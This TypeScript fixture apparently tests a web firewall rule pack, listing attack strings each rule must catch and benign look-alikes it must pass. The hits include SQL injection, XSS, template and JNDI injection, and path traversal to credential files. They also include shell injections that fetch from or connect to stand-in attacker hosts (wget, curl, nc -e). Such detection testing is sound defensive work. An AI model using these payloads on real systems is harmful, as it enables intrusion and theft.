/** What a rule has to match, and what comes close and has to pass. */
export interface RuleCases {
  readonly hits: readonly string[];
  readonly misses: readonly string[];
}

/** Cases of every rule of the own pack, by its number. */
export const CASES: Readonly<Record<string, RuleCases>> = {
  101110: {
    hits: ["x' or 1=1", "nobody' and 'a'='a", 'z") or ("1"="1', "7' order by 3"],
    misses: ["It's here or there", "O'Brien and sons", "the 'in' operator", "rock 'n' roll"],
  },
  101120: {
    hits: ["1 union select 2", "x') UNION ALL SELECT name FROM staff", "1/**/union/**/select/**/2"],
    misses: ["select a union representative", "the European Union selected", "union: select one"],
  },
  101130: {
    hits: ["' or 1=1--", "x or 'a'='a", "1 and 2 = 2", "admin' || 5=5"],
    misses: ["one and two", "5 or 6 items and 64", "sizes 3 and 4 are sold out", "true or false?"],
  },
  101140: {
    hits: ["1; drop table staff", "x'; insert into t values (1)", "5); exec xp_cmdshell"],
    misses: ["Hello; select an item", "first; update later", "a; b; c"],
  },
  101150: {
    hits: ["extractvalue(1,concat(0x7e,(select version())))", "load_file(0x2f6574632f706173737764)"],
    misses: ["count(items)", "user (admin)", "the concat function joins strings", "hex(color)"],
  },
  101160: {
    hits: ["1'; waitfor delay '0:0:9'", "pg_sleep(9)", "benchmark(5000000,md5(1))", "x' and sleep(5)#"],
    misses: ["sleep well (8 hours)", "benchmark (fast)", "wait for delay", "sleep(duration)"],
  },
  101170: {
    hits: ["select table_name from information_schema.tables", "1=(select 1)", "@@version", "select 1 from dual"],
    misses: ["Select from our information desk", "the master list", "version 2 of the schema"],
  },
  101180: {
    hits: ["admin' --", "x') /*", "a'#", "root'; -- "],
    misses: ["it's -- well -- fine", "'quoted' # 5", "rock 'n' roll - live", "don't /path"],
  },
  101190: {
    hits: ["1' order by 9", "x' group by (1)", "1 having 1=1", "1 into outfile '/tmp/x'"],
    misses: ["order by phone", "group by interest", "having a good time", "load file into memory"],
  },
  101200: {
    hits: ["'='", "a'='a", "x' like '%", "1' || '1"],
    misses: ["the 'a' option", "'90s music", "Ana's and Bo's", "5' tall"],
  },
  101210: {
    hits: ["drop table invoices", "delete from users where 1", "x'; update staff set pay = 9", "exec sp_who"],
    misses: ["Please drop us a note", "delete from my list", "update the settings", "grant access to people"],
  },
  101220: {
    hits: ["select name, pass from staff", "(select a from b)", "=select 1,2 from t"],
    misses: ["Select a color from the list below.", "to select from", "Preselect one from many"],
  },
  101230: {
    hits: ["1 or 1=1", "5) and (2=2", "7 union all select", "1;select 1"],
    misses: ["1 or 2 people", "5 and a half", "2026-01-02", "1; mode=block"],
  },
  102110: {
    hits: ["<script>x</script>", "<IFRAME src=//evil.example>", "<svg/onload=x()>", "< script src=x>"],
    misses: ["<p>text</p>", "<b>scripts</b>", "List<String>", "<link to resource>"],
  },
  102120: {
    hits: ["<img src=x onerror=go()>", "<p onclick='go()'>", '" onfocus="go()', "x onmouseover = go"],
    misses: ["based on=5", "on Monday = closed", "online=true", "version=2"],
  },
  102130: {
    hits: ["javascript:go()", "java\tscript:go()", "VBScript:x", "data:text/html,<b>"],
    misses: [
      "JavaScript is a language",
      "JavaScript: The Good Parts",
      "typescript: 7.0",
      "data: see below",
      "data:image/png;base64,AAAA",
    ],
  },
  102140: {
    hits: ["';alert(1)//", '"-confirm(2)-"', "`);eval('x')", "};location.href='//evil.example'"],
    misses: ["'alert' (noun)", "red alert! (again)", "it's location, location", "'print' the page"],
  },
  102150: {
    hits: ["alert(1)", "prompt('x')", "document.cookie", "top['al'+'ert'](1)", "String.fromCharCode(88)"],
    misses: ["alert level (high)", "document the cookie policy", "an alert was sent", "prompt (short)"],
  },
  102160: {
    hits: ["width: expression(go())", "@import 'x.css'", "-moz-binding:url(x)", "background:url(javascript:x)"],
    misses: ["a facial expression (happy)", "url(https://x.example/a.png)", "good behavior: yes", "import taxes"],
  },
  102170: {
    hits: ['"><b>x', "'/><img>", "</script><p>", "--> <b>", "x</title><b>"],
    misses: ["a > b", 'see "this"', "<!-- note", "</p><p>"],
  },
  102180: {
    hits: ["{{constructor.constructor('x')()}}", "<p ng-init='x'>", "{{$on.curry.call()}}", "<b v-html='x'>"],
    misses: ["{{name}}", "{{ user.name }}", "ng-book", "v-neck shirt"],
  },
  103110: {
    hits: ["a.png; wget http://evil.example/x", "x | nc 203.0.113.9 9", "1 && whoami", "$(curl http://evil.example)"],
    misses: ["cats; dogs", "ping | pong", "R&D; sales", "&lt;source&gt;", "Tom & Jerry", "a; b | c"],
  },
  103111: {
    hits: ["x; find / -name id_rsa", "a | tail -n 5", "b;php -r 'x'", "1 & type c:\\boot.ini"],
    misses: ["one | more options", "colors; type of paper", "Fast & more", "date; time"],
  },
  103112: {
    hits: ["{cat,/etc/passwd}", ";X=$'id';$X", "a${IFS}b", "{ls,-la}"],
    misses: ["{id, name}", "x='1'; y='2'", "{cat, dog}", "total=$5"],
  },
  103113: {
    hits: [
      "net user eve Secret1 /add",
      'reg add "HKLM\\Software"',
      "netsh firewall set opmode disable",
      "ipconfig /all",
    ],
    misses: ["net user growth", "the net user count rose", "register now", "session viewer"],
  },
  103120: {
    hits: ["/bin/bash -c x", "nc -e x 203.0.113.9 1", "rm -rf /x", "powershell -enc AAAA", "cat /etc/hosts"],
    misses: ["bash is a shell", "a cat and a dog", "chmod explained", "curl is a tool", "cmd key"],
  },
  103130: {
    hits: ["$(id )", "`whoami`", "x`sleep 9`", "$(cat </etc/hosts)", "${path:0:1}"],
    misses: ["run `npm test` first", "$100 (net)", "${total}", "a `code` span"],
  },
  103140: { hits: ["() { :; }; echo x", "() { _; }"], misses: ["() => { x; }", "function () { return 1; }"] },
  104110: {
    hits: ["../../etc/hosts", "..\\..\\windows\\win.ini", "%2e%2e%2fsecret", "/a/../../b", "....//....//x"],
    misses: ["see ../docs", "wait...", "1..10", "a/b/c.txt", "v1.2..v1.3"],
  },
  104111: {
    hits: ["..%c0%af..%c0%afetc", "..%u2216windows", "%c0%ae%c0%ae%c1%9c.", ".%00.%5cetc"],
    misses: ["100%..200%", "a..b", "50%25 off", "...%20etc."],
  },
  104112: {
    hits: ["..2f..2f..2fx", "..%5c..%5cx", "..0x5c..0x5cx"],
    misses: ["..2..3", "a..b..c", "..."],
  },
  104113: {
    hits: ["etc%c0%afpasswd", "etc2fshadow", "x/etc\\hosts"],
    misses: ["etc. hosts", "etcetera", "etc, passwd"],
  },
  104120: {
    hits: ["/etc/passwd", "c:\\windows\\win.ini", "/proc/self/environ", "/var/log/auth.log", "/home/x/.ssh/id_rsa"],
    misses: ["etc/other", "the proc macro", "windows 11", "C:\\Users\\ana\\Documents", "/users/5", "my.env.name"],
  },
  104130: {
    hits: ["php://filter/read=x", "file:///etc/hosts", "phar://x.phar", "expect://id"],
    misses: ["php: a language", "zip code: 12345", "file: report.pdf", "https://x.example/file"],
  },
  104140: {
    hits: ["a.php%00.png", "x.jsp\u0000.jpg", "y%2500"],
    misses: ["100%", "20%005", "a.b.c", "0.00"],
  },
  105110: {
    hits: [
      "http://127.0.0.1/",
      "http://10.1.2.3:8080/x",
      "http://0x7f000001/",
      "http://2130706433/",
      "http://[::1]/",
      "https://169.254.169.254/",
      "http://x.nip.io",
    ],
    misses: [
      "https://api.example.com/10.0.0.1",
      "http://8.8.8.8/",
      "https://11.example",
      "ratio http: 10",
      "https://0604013.mock.example/",
    ],
  },
  105120: {
    hits: ["gopher://x.example/_", "dict://x:11211/", "ldap://x.example/", "file:///x"],
    misses: ["mailto:a@b.example", "a dictionary: yes", "tcp: a protocol", "https://x.example"],
  },
  105130: {
    hits: ["/latest/meta-data/iam", "169.254.169.254", "/computeMetadata/v1/", "http://[::ffff:a9fe:a9fe]/"],
    misses: ["the latest metadata", "169.254 is a prefix", "/v1/metadata"],
  },
  105140: {
    hits: [
      "http://localhost",
      "https://localhost:22/",
      "http://x.example/?u=http://localhost",
      "http://localhost:6379",
    ],
    misses: ["http://localhost:3000/users", "localhost", "run it on localhost", "https://localhost.example.com/"],
  },
  106110: { hits: ["$where", "$ne", "$regex"], misses: ["$ref", "where", "$schema", "$id"] },
  106120: {
    hits: ["user[$ne]=1", '{"$gt":""}', "';return this.a=='b", "db.users.find({})", "'||'a'=='a"],
    misses: ["$gt", "db.users", "this.name", "the $where clause of SQL: no"].slice(0, 3),
  },
  107110: {
    hits: ["{{7*7}}", "${7*7}", "<%= system('id') %>", "#{7*7}", "{{config.items()}}", "{{self.__init__}}"],
    misses: ["{{name}}", "${total}", "{{ user.first_name }}", "#{id}", "{% name %}"],
  },
  107120: {
    hits: ["T(java.lang.Runtime).getRuntime()", "x.__class__.__mro__", "#set($x=1)", "@java.lang.System@x"],
    misses: ["java.lang.String", "a class in Java", "getRuntime", "java.lang.Thread.run(Thread.java:1)"],
  },
  107130: {
    hits: ["<%= name %>", "{% include 'x' %}", "{{#with x}}", "{php}x{/php}", "{{= x}}"],
    misses: ["{{name}}", "50 <% of", "{% if", "{x} and {y}"].filter((text) => text !== "{% if"),
  },
  108110: {
    hits: ["${jndi:ldap://x.example/a}", "${${lower:j}ndi:x}", "${env:AWS_SECRET:-x}", "${j${::-n}di:x}"],
    misses: ["${name}", "$jndi", "${HOME:-/root}", "jndi:ldap"],
  },
  109110: {
    hits: ["x\r\nSet-Cookie: a=b", "%0d%0aLocation: x", "a\nHTTP/1.1 200", "%0D%0A<b>"],
    misses: ["line one\nline two", "a\r\nb", "10%0 off", "cookie: yes"],
  },
  110110: {
    hits: ['<!DOCTYPE a [<!ENTITY b SYSTEM "x">]>', "<!ENTITY x 'y'>", "<xi:include href='x'/>", "&xxe;"],
    misses: ["<!DOCTYPE html>", "&amp;", "an entity", "the operating system 'file'"],
  },
  111110: {
    hits: ['O:4:"User":1:{s:1:"a";i:1;}', "rO0ABXNyAA", "_$$ND_FUNC$$_function", 'a:1:{i:0;s:1:"x";}'],
    misses: ["O: 4", "ratio a:1:2", "Rob", "acetic acid"],
  },
  111120: {
    hits: ['{"@type":"com.sun.rowset.X"}', '{"$type":"System.X, Y"}', "{'py/object':'os.system'}"],
    misses: ['{"type":"user"}', '{"@id":"x"}', "@type: user"],
  },
  111130: { hits: ["@class", "$type", "py/object"], misses: ["class", "type", "@id"] },
  112110: {
    hits: ["__proto__", "constructor.prototype", "a[__proto__]"],
    misses: ["proto", "constructor", "prototype"],
  },
  112120: {
    hits: ["__proto__[x]=1", "constructor.prototype.x=1", 'x["__proto__"]="y"', "__defineGetter__"],
    misses: ["the prototype chain", "constructor (builder)", "proto files"],
  },
  113110: {
    hits: ["*)(uid=*", "x)(|(a=b", "*)(&", "(|(cn=*))"],
    misses: ["(a)(b)", "50*2=100", "5 (five) & more", "*bold*"],
  },
  114110: {
    hits: ["' or count(//x)=1", "'] | //*[", "x' or name(/*)='a", "string-length(/x)"],
    misses: ["count(items)", "' or '", "the name (full)", "a // b"],
  },
  115110: {
    hits: ["<?php echo 1;", "system($_GET['x'])", "$_POST['a']", "eval('x')"].slice(0, 3),
    misses: ["PHP is a language", "<?xml version='1.0'?>", "the system (old)", "$post"],
  },
  117110: {
    hits: ["require('child_process')", "process.mainModule.x", "execSync('id')", "global.process.exit()"],
    misses: ["this process.", "require(d)", "a global process", "res.end"],
  },
  119110: {
    hits: ['<!--#exec cmd="id"-->', "<!-- #include file='x' -->", '<esi:include src="x"/>'],
    misses: ["<!-- a comment -->", "# echo", "include it"],
  },
  119120: {
    hits: ["<xsl:value-of select='x'/>", "document('file:///x')", "php:function('x')", "system-property('x')"],
    misses: ["the document (old)", "xsl style", "a system property"],
  },
  119130: {
    hits: ["__import__('os')", "os.system('id')", "subprocess.Popen(x)", "exec('x')"],
    misses: ["import os", "a subprocess", "os.path", "execute"],
  },
};
